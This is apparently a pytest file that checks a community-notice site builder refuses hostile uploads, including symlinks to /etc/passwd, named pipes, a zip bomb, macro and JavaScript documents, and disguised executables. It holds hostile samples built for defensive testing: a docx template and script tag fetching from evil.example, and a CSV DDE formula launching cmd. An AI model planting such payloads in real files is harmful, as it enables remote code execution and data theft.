"""Hostile files (issue 14, points 3 and 5): attachments, photos, links and pipes in content/.

Every refusal case is written into one shared tree (each in its own notice, photo or file, so
no case can hide another: errors are data and every problem is reported), which check.py and
the build both refuse; each case's file must be named by both, with the words that say why,
and the two tools must report the same (file, field) problems. A few cases are also refused
alone, in a tree of their own. Cases that must build share one tree and one build; the oracle
is a byte grep of every output file for each case's marker.
"""
from __future__ import annotations

import os
from pathlib import Path

import pytest

import filemakers as fm
from conftest import ACTIVITY
from hostile import Case, assert_refused, build_together, leaks, output_files, problem_keys, refuse_alone

pytestmark = pytest.mark.build

ID = "33050219850612301X"  # a valid resident ID number (check digit and all)
MOBILE = "13812345678"


def notice(slug: str, attachments: str, extra: str = "", date: str = "2026-11-01") -> dict[str, str]:
    """A notice naming `attachments` (YAML flow list); its file is notices/<date>-<slug>.md."""
    return {f"notices/{date}-{slug}.md":
            f"---\ntitle: 附件测试公告\ndate: {date}\nattachments: {attachments}\n{extra}---\n请见附件。\n"}


def activity(slug: str, photo: str) -> dict[str, str]:
    text = ACTIVITY.replace("2026-03-05", "2026-10-05").format(
        extra=f"photos:\n  - {{file: {photo}, consent: true}}\n")
    return {f"activities/2026/2026-10-05-{slug}.md": text}


def _outside(path: Path) -> Path:
    """A folder next to content/, outside it."""
    root = next(p for p in path.parents if p.name == "content").parent
    out = root / "outside"
    out.mkdir(exist_ok=True)
    return out


def link_out(data: bytes | str, name: str):
    def make(path: Path) -> None:
        target = _outside(path) / name
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
        os.symlink(target, path)
    return make


def link_to(target: str):
    return lambda path: os.symlink(target, path)


def folder_out(files: dict[str, bytes | str], name: str):
    def make(path: Path) -> None:
        folder = _outside(path) / name
        folder.mkdir()
        for rel, data in files.items():
            (folder / rel).write_bytes(data if isinstance(data, bytes) else data.encode())
        os.symlink(folder, path, target_is_directory=True)
    return make


def fifo(path: Path) -> None:
    os.mkfifo(path)


def sparse(size: int):
    def make(path: Path) -> None:
        with open(path, "wb") as fh:
            fh.truncate(size)
    return make


def encrypted_pdf(marker: str) -> bytes:
    import io
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(fm.pdf([marker]))))
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def docx_with_macro(marker: str) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO(fm.docx([marker]))
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + marker.encode())
    return buf.getvalue()


def zip_bomb_docx(marker: str) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO(fm.docx([marker]))
    with zipfile.ZipFile(buf, "a", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/media/bomb.bin", b"\0" * (70 * 1024 * 1024))
    return buf.getvalue()


def docx_remote_template(marker: str) -> bytes:
    """A Word file that fetches its template from another host when opened."""
    import io
    import zipfile
    src = zipfile.ZipFile(io.BytesIO(fm.docx([marker])))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", (
                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    b"</Relationships>"))
            out.writestr(info, data)
    return buf.getvalue()


def plain_zip(marker: str) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("readme.txt", marker)
    return buf.getvalue()


OLE_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 56 + "WordDocument".encode("utf-16-le") + b"\0" * 400
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{m}")</script></svg>'
SVG_IMAGE = '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/{m}.png"/></svg>'
JS_PDF_CATALOG = "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >>"


def _att(id: str, name: str, spec, attach: str | None = None, extra: str = "") -> Case:
    """A notice attaching files/<name>; `attach` overrides the YAML item."""
    return Case(id, {f"files/{name}": spec, **notice(id.lower().replace("_", "-"), attach or f"[files/{name}]", extra)},
                names=f"content/files/{name}")


# (case, a word the refusal must say about it)
REFUSED: list[tuple[Case, str]] = [
    # --- links and special files (as attachment, as photo, unreferenced) ---
    (_att("att_link_passwd", "passwd.txt", link_to("/etc/passwd")), "content 文件夹以外"),
    (_att("att_link_outside", "outside.txt", link_out("外部文件 {m}", "o1.txt")), "content 文件夹以外"),
    (_att("att_link_dangling", "dangling.txt", link_to("/nonexistent/{m}.txt")), "content 文件夹以外"),
    (Case("att_link_folder", {"files/linked": folder_out({"a.txt": "外部 {m}"}, "linked"),
                              **notice("att-link-folder", "[files/linked/a.txt]")}, names="content/files/linked"),
     "content 文件夹以外"),
    (Case("photo_link_passwd", {"photos/passwd.jpg": link_to("/etc/passwd"), **activity("photo-link-passwd", "photos/passwd.jpg")},
          forbidden=(b"root:x:0:0",), names="content/photos/passwd.jpg"), "content 文件夹以外"),
    (Case("photo_link_outside", {"photos/out.jpg": link_out(fm.jpeg(gps_marker="HXPHOTOLINKOUTSIDEQ"), "o2.jpg"),
                                 **activity("photo-link-outside", "photos/out.jpg")}, names="content/photos/out.jpg"),
     "content 文件夹以外"),
    (Case("photo_link_folder", {"photos/ext": folder_out({"p.jpg": fm.jpeg(gps_marker="HXPHOTOLINKFOLDERQ")}, "ext"),
                                **activity("photo-link-folder", "photos/ext/p.jpg")}, names="content/photos/ext"),
     "content 文件夹以外"),
    (Case("notices_link_folder", {"activities/2024": folder_out({"2024-05-01-x.md": "---\ntitle: {m}\n---\n"}, "acts")},
          names="content/activities/2024"), "content 文件夹以外"),
    (Case("link_unreferenced", {"files/stray.txt": link_to("/etc/hostname")}, forbidden=(b"{m}",),
          names="content/files/stray.txt"), "content 文件夹以外"),
    (Case("link_loop", {"files/loop.txt": lambda p: (os.symlink(p.name, p))}, names="content/files/loop.txt"),
     "无法读取"),
    (Case("fifo_md", {"notices/2026-11-02-fifo.md": fifo}, names="content/notices/2026-11-02-fifo.md"), "命名管道"),
    (Case("fifo_jpg", {"photos/fifo.jpg": fifo, **activity("fifo-jpg", "photos/fifo.jpg")},
          names="content/photos/fifo.jpg"), "命名管道"),
    (_att("fifo_pdf", "fifo.pdf", fifo), "命名管道"),
    (Case("fifo_unreferenced", {"files/pipe.txt": fifo}, names="content/files/pipe.txt"), "命名管道"),
    (Case("fifo_yml", {"boards/2026-q3.yml": fifo}, names="content/boards/2026-q3.yml"), "命名管道"),
    # --- types by suffix and by bytes ---
    (_att("att_html", "page.html", "<html><script>{m}</script></html>"), "不允许的附件类型"),
    (_att("att_svg_script", "logo.svg", SVG_SCRIPT), "不允许的附件类型"),
    (_att("att_svg_image", "map.svg", SVG_IMAGE), "不允许的附件类型"),
    (_att("att_md", "note.md", "# {m}\n正文"), "不允许的附件类型"),
    (Case("att_future_md", {"activities/2026/2026-12-20-future-att.md":
                            "---\ntitle: 未来活动 {m}\ndate: 2026-12-20\ncolumn: leifeng\n---\n{m}\n",
                            **notice("att-future-md", "[activities/2026/2026-12-20-future-att.md]")},
          names="content/activities/2026/2026-12-20-future-att.md"), "记录的文件"),
    (_att("att_link_to_record", "future.txt", link_to("../activities/2026/2026-12-20-future-att.md")), "记录的文件"),
    (_att("att_link_to_community", "settings.txt", link_to("../community.yml")), "记录的文件"),
    (_att("att_exe", "setup.exe", b"MZ\x90\x00HXATTEXEQ"), "不允许的附件类型"),
    (_att("att_no_suffix", "README", "{m}"), "不允许的附件类型"),
    (_att("exe_as_pdf", "tool.pdf", b"MZ\x90\x00\x03\x00HXEXEASPDFQ\x00\x00"), "不符"),
    (_att("html_as_pdf", "page.pdf", "<html><body onload=alert(1)>{m}</body></html>"), "不符"),
    (_att("svg_as_png", "pic.png", SVG_SCRIPT, attach="[{file: files/pic.png, reviewed: true}]"), "不符"),
    (_att("md_as_pdf", "notes.pdf", "# {m}\n\n正文"), "不符"),
    (_att("html_as_txt", "page.txt", "<!DOCTYPE html><script>{m}</script>"), "网页"),
    (_att("zip_as_docx", "form.docx", plain_zip("HXZIPASDOCXQ")), "不符"),
    (_att("pdf_as_docx", "form2.docx", fm.pdf(["HXPDFASDOCXQ"])), "不符"),
    (_att("docx_as_xlsx", "sheet.xlsx", fm.docx(["HXDOCXASXLSXQ"])), "不符"),
    (_att("png_as_jpg", "photo.jpg", fm.png(), attach="[{file: files/photo.jpg, reviewed: true}]"), "不符"),
    # --- what the text says ---
    (_att("pdf_id", "id.pdf", fm.pdf([f"申请人身份证号 {ID} HXPDFIDQ"])), "身份证"),
    (_att("pdf_hardship", "list.pdf", fm.pdf(["慰问名单", "居民王秀英患有尿毒症，家里是低保户。HXPDFHARDSHIPQ"])), "第 2 页"),
    (_att("pdf_reviewed_id", "rev.pdf", fm.pdf([f"身份证 {ID} HXPDFREVIEWEDIDQ"]),
          attach="[{file: files/rev.pdf, reviewed: true}]"), "身份证"),
    (_att("xlsx_mobile", "phones.xlsx", fm.xlsx([["联系人", "电话"], ["HXXLSXMOBILEQ", int(MOBILE)]])), "手机号"),
    (_att("xlsx_hidden_sheet", "hidden.xlsx", fm.xlsx([["名单"]], hidden_rows=[["HXXLSXHIDDENSHEETQ", MOBILE]])), "工作表「隐藏」"),
    (_att("docx_mobile", "letter.docx", fm.docx(["HXDOCXMOBILEQ", f"联系电话：{MOBILE}"])), "手机号"),
    (_att("docx_author_mobile", "meta.docx", fm.docx(["正文没有问题"], author=f"HXDOCXAUTHORQ {MOBILE}")), "文档属性"),
    (_att("pdf_author_mobile", "author.pdf", fm.pdf(["正文"], author=f"HXPDFAUTHORQ {MOBILE}")), "文档属性"),
    (_att("pdf_note_id", "note.pdf", fm.pdf(["正文"], note=f"HXPDFNOTEIDQ {ID}")), "批注"),
    (_att("docx_picture", "pic.docx", fm.docx_with_picture(["HXDOCXPICTUREQ 正文"])), "reviewed: true"),
    (_att("xlsx_sheet_title", "title.xlsx", fm.xlsx([["HXXLSXSHEETTITLEQ"]], title=f"张三{MOBILE}")), "手机号"),
    (_att("gbk_txt_id", "gbk.txt", f"身份证号码：{ID}\nHXGBKTXTIDQ".encode("gb18030")), "身份证"),
    (_att("csv_mobile", "list.csv", f"姓名,电话\nHXCSVMOBILEQ,{MOBILE}\n"), "手机号"),
    (_att("txt_script_inside", "inside.txt", "停水通知\n详见 <script src=//evil.example/{m}.js></script>\n"), "网页"),
    (_att("csv_formula", "dde.csv", "姓名,备注\nHXCSVFORMULAQ,=cmd|' /C calc'!A0\n"), "公式"),
    (_att("docx_remote_template", "remote.docx", docx_remote_template("HXDOCXREMOTETEMPLATEQ")), "下载模板"),
    (_att("txt_hardship", "visit.txt", "走访记录\n低保户张桂芳今年七十岁，HXTXTHARDSHIPQ。\n"), "第 2 行"),
    # --- unreadable, broken, too big ---
    (_att("pdf_scan_unreviewed", "scan.pdf", fm.pdf([None, None])), "reviewed: true"),
    (_att("pdf_partly_scanned", "mixed.pdf", fm.pdf(["第一页有字 HXPDFPARTLYQ", None])), "reviewed: true"),
    (_att("image_unreviewed", "poster.jpg", fm.jpeg(gps_marker="HXIMAGEUNREVIEWEDQ")), "reviewed: true"),
    (_att("doc_unreviewed", "old.doc", OLE_DOC), "reviewed: true"),
    (_att("pdf_broken", "broken.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R HXPDFBROKENQ"), "损坏"),
    (_att("pdf_encrypted", "locked.pdf", encrypted_pdf("HXPDFENCRYPTEDQ")), "密码"),
    (_att("pdf_javascript", "js.pdf", fm.pdf(["通知 HXPDFJAVASCRIPTQ"], extra_catalog=JS_PDF_CATALOG)), "脚本"),
    (_att("pdf_too_many_pages", "long.pdf", fm.pdf(["页"] * 301)), "301 页"),
    (_att("docx_macro", "macro.docx", docx_with_macro("HXDOCXMACROQ")), "宏"),
    (_att("docx_zip_bomb", "bomb.docx", zip_bomb_docx("HXDOCXZIPBOMBQ")), "过大"),
    (_att("att_too_big", "big.pdf", sparse(21 * 1024 * 1024)), "文件太大"),
    (_att("image_att_truncated", "cut.jpg", fm.jpeg((800, 600))[:600],
          attach="[{file: files/cut.jpg, reviewed: true}]"), "损坏"),
    (Case("att_missing", notice("att-missing", "[files/HXATTMISSINGQ.pdf]"), names="content/files/HXATTMISSINGQ.pdf"),
     "找不到文件"),
    # --- photos check.py used to pass ---
    (Case("photo_text_as_jpg", {"photos/text.jpg": "这不是照片 {m}", **activity("photo-text-as-jpg", "photos/text.jpg")},
          names="content/photos/text.jpg"), "不是图片"),
    (Case("photo_truncated", {"photos/cut.jpg": fm.jpeg((800, 600))[:700], **activity("photo-truncated", "photos/cut.jpg")},
          names="content/photos/cut.jpg"), "损坏"),
    (Case("photo_huge_png", {"photos/huge.png": fm.huge_png(), **activity("photo-huge-png", "photos/huge.png")},
          names="content/photos/huge.png"), "太大"),
    (Case("draft_photo_truncated", {"photos/draft.jpg": fm.jpeg((800, 600))[:700],
                                    "activities/2026/2026-10-06-draft-photo.md": ACTIVITY.replace("2026-03-05", "2026-10-06").format(
                                        extra="draft: true\nphotos:\n  - {file: photos/draft.jpg, consent: true}\n")},
          names="content/photos/draft.jpg"), "损坏"),
]


def test_cases_are_many_and_unique():
    ids = [c.id for c, _ in REFUSED] + [c.id for c in BUILT]
    assert len(ids) >= 40 and len(set(ids)) == len(ids)
    markers = [c.marker for c, _ in REFUSED] + [c.marker for c in BUILT]
    assert len(set(markers)) == len(markers)


@pytest.fixture(scope="module")
def refused_together(tmp_path_factory):
    from hostile import ContentTree, run_build, run_check, write_case
    root = tmp_path_factory.mktemp("hostile-files")
    tree = ContentTree(root)
    for case, _ in REFUSED:
        write_case(tree, case)
    out = root / "site"
    return run_check(tree), run_build(tree, out), out


def _about(output: str, name: str) -> str:
    """Each problem (its line and hint) that names `name`."""
    blocks = output.replace("\n    怎么改：", " 怎么改：").splitlines()
    return "\n".join(b for b in blocks if name in b)


def test_both_tools_refuse_every_case_in_one_report(refused_together):
    check, build, out = refused_together
    assert not check.crashed and not build.crashed, (check.output[-3000:], build.output[-3000:])
    assert check.returncode == 1 and build.returncode != 0
    assert problem_keys(check.output) == problem_keys(build.output), (
        problem_keys(check.output) ^ problem_keys(build.output))
    assert not any(output_files(out)), "a refused build wrote a site"


@pytest.mark.parametrize("case,why", REFUSED, ids=[c.id for c, _ in REFUSED])
def test_refused(refused_together, case, why):
    check, build, out = refused_together
    for run in (check, build):
        said = _about(run.output, case.names)
        assert said, f"{case.names} not named:\n{run.output[-3000:]}"
        assert why in said, said
    assert not leaks(out, case.forbidden_bytes())


# Refused alone too: each of these is refused in a tree where it is the only fault.
ALONE = ("att_link_passwd", "photo_link_outside", "fifo_md", "fifo_pdf", "html_as_pdf", "pdf_id",
         "photo_truncated")


@pytest.mark.parametrize("case_id", ALONE)
def test_refused_alone(tmp_path, case_id):
    case = next(c for c, _ in REFUSED if c.id == case_id)
    assert_refused(refuse_alone(case, tmp_path))


def test_bad_record_and_bad_photo_are_both_reported(tmp_path):
    """A bad record does not hide a bad photo, in either tool."""
    case = Case("record_and_photo", {
        "notices/2026-11-03-bad-kind.md": "---\ntitle: 停电\ndate: 2026-11-03\nkind: 随便\n---\n正文\n",
        "photos/bad.jpg": "文字 {m}", **activity("record-and-photo", "photos/bad.jpg")})
    v = refuse_alone(case, tmp_path)
    assert_refused(v)
    for run in (v.check, v.build):
        assert "content/notices/2026-11-03-bad-kind.md" in run.output and "content/photos/bad.jpg" in run.output


# --- cases that must build, all in one tree ------------------------------------------------

GBK_TEXT = "停水期间请提前储水，HXGBKPUBLISHEDQ。"
BUILT: list[Case] = [
    Case("gbk_published", {"files/gbk-ok.txt": GBK_TEXT.encode("gb18030"), **notice("gbk-published", "[files/gbk-ok.txt]")}),
    Case("csv_published", {"files/ok.csv": "项目,时间\nHXCSVPUBLISHEDQ,周一\n",
                           **notice("csv-published", "[{file: files/ok.csv, title: 时间表}]")}),
    Case("image_gps", {"files/gps.jpg": fm.jpeg((900, 600), gps_marker="HXIMAGEGPSQ"),
                       **notice("image-gps", "[{file: files/gps.jpg, reviewed: true, title: 海报}]")}),
    Case("scan_reviewed", {"files/scan-ok.pdf": fm.pdf([None]),
                           **notice("scan-reviewed", "[{file: files/scan-ok.pdf, reviewed: true, title: 申请表扫描件}]")}),
    Case("draft_attachment", {"files/draft.txt": "草稿附件 {m}",
                              **notice("draft-attachment", "[files/draft.txt]", extra="draft: true\n")}),
    Case("future_attachment", {"files/future.txt": "未来附件 {m}",
                               **notice("future-attachment", "[files/future.txt]", date="2026-12-15")}),
    Case("scheduled_attachment", {"files/later.txt": "定时附件 {m}",
                                  **notice("scheduled-attachment", "[files/later.txt]", extra="publish: 2026-12-01\n")}),
    Case("unreferenced_file", {"files/stray-ok.txt": "没人引用 {m}"}),
    Case("title_markup", {"files/ok-title.txt": "普通附件",
                          **notice("title-markup", '[{file: files/ok-title.txt, title: "<script>{m}</script>"}]')},
         forbidden=(b"<script>{m}",)),
    Case("docx_published", {"files/ok.docx": fm.docx(["社区通知"]), **notice("docx-published", "[files/ok.docx]")}),
    Case("single_attachment", {"files/single.txt": "一个附件，不写成列表", **notice("single-attachment", "files/single.txt")}),
    Case("csv_numbers_ok", {"files/minus.csv": "项目,变化\n用水,-3\n用电,+2\n", **notice("csv-numbers-ok", "[files/minus.csv]")}),
]


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    return build_together(BUILT, tmp_path_factory.mktemp("hostile-files-built"))


def test_built_cases_build(built):
    check, build, out = built
    assert check.returncode == 0, check.output[-3000:]
    assert build.returncode == 0, build.output[-3000:]


@pytest.mark.parametrize("case_id", ["image_gps", "draft_attachment", "future_attachment", "scheduled_attachment",
                                     "unreferenced_file", "title_markup"])
def test_nothing_leaks(built, case_id):
    case = next(c for c in BUILT if c.id == case_id)
    assert not leaks(built[2], case.forbidden_bytes())


def test_text_attachment_is_utf8_with_bom(built):
    data = (built[2] / "attachments/files/gbk-ok.txt").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data[3:].decode("utf-8") == GBK_TEXT
    assert (built[2] / "attachments/files/ok.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_links_say_title_type_and_size(built):
    page = (built[2] / "notices/2026-11-01-csv-published/index.html").read_text("utf-8")
    assert ">时间表</a>" in page and "CSV 表格，1 KB" in page
    page = (built[2] / "notices/2026-11-01-scan-reviewed/index.html").read_text("utf-8")
    assert ">申请表扫描件</a>" in page and "（PDF，" in page
    page = (built[2] / "notices/2026-11-01-title-markup/index.html").read_text("utf-8")
    assert "&lt;script&gt;HXTITLEMARKUPQ&lt;/script&gt;" in page


def test_image_attachment_is_a_processed_photo(built):
    page = (built[2] / "notices/2026-11-01-image-gps/index.html").read_text("utf-8")
    assert 'href="../../assets/photos/' in page and "JPG 图片" in page
    assert not (built[2] / "attachments/files/gps.jpg").exists()
    from PIL import Image
    photos = sorted((built[2] / "assets/photos").glob("*-900.jpg"))
    assert photos
    with Image.open(photos[0]) as im:
        assert not im.getexif() and "exif" not in im.info


@pytest.mark.browser
def test_text_attachment_reads_as_chinese_in_chromium_without_charset(built, tmp_path, chromium):
    """Served as bare text/plain (no charset), Chromium in an English locale shows the published
    text as Chinese; the same text in UTF-8 without the BOM would not be (the check can fail;
    GBK itself is guessed right by Chromium's detector in a Chinese locale, not everywhere)."""
    import functools
    import http.server
    import threading
    folder = tmp_path / "served"
    folder.mkdir()
    (folder / "published.txt").write_bytes((built[2] / "attachments/files/gbk-ok.txt").read_bytes())
    (folder / "no-bom.txt").write_bytes(GBK_TEXT.encode("utf-8"))

    class Bare(http.server.SimpleHTTPRequestHandler):
        def guess_type(self, path):
            return "text/plain"  # what a server without a charset setting sends

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Bare, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}/"
    try:
        context = chromium.new_context(locale="en-US")
        try:
            page = context.new_page()
            page.goto(base + "published.txt")
            assert page.inner_text("body").strip() == GBK_TEXT
            page.goto(base + "no-bom.txt")
            assert GBK_TEXT not in page.inner_text("body")
        finally:
            context.close()
    finally:
        server.shutdown()
        server.server_close()


def test_single_attachment_without_a_list_is_published(built):
    assert (built[2] / "attachments/files/single.txt").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (built[2] / "attachments/files/minus.csv").exists()
